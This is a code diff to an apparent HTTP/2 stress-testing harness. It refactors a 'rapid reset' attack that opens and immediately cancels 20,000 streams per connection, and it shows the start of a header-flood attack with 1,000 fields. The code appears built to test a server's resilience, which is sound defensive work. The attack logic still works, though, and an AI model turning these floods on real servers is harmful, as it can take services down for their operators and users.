@@ -1,6 +1,6 @@
 import { connect, constants } from "node:http2";
 import { gzipSync } from "node:zlib";
-import { callHeaders, FLAG, FRAME, frame, headerBlock, RawConnection } from "./raw_connection.js";
+import { callHeaders, FLAG, FRAME, frame, headerBlock, RawConnection, resets } from "./raw_connection.js";
 
 /** What became of an attack. */
 export interface Outcome {
@@ -53,23 +53,11 @@ async function repeat(connection: RawConnection, times: number, next: (index: nu
   for (let i = 0; i < times; i++) if (!(await connection.push(next(i)))) return;
 }
 
-const rapidReset: Attack = (address) => {
-  const head = callHeaders("SubscribePresence", { "x-user-id": "mallory" });
-  return overSome(address, "20,000 streams each, reset as soon as they were opened", async (connection) => {
+const rapidReset: Attack = (address) =>
+  overSome(address, "20,000 streams each, reset as soon as they were opened", async (connection) => {
     connection.greet();
-    await repeat(connection, 200, (round) =>
-      Buffer.concat(
-        Array.from({ length: 100 }, (_, i) => {
-          const id = (round * 100 + i) * 2 + 1;
-          return Buffer.concat([
-            frame(FRAME.HEADERS, END_HEADERS, id, head),
-            frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])),
-          ]);
-        }),
-      ),
-    );
+    await repeat(connection, 200, (round) => resets(100, round * 100));
   });
-};
 
 const headerFlood: Attack = (address) => {
   const fields = Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`x-${i}`, "v"]));
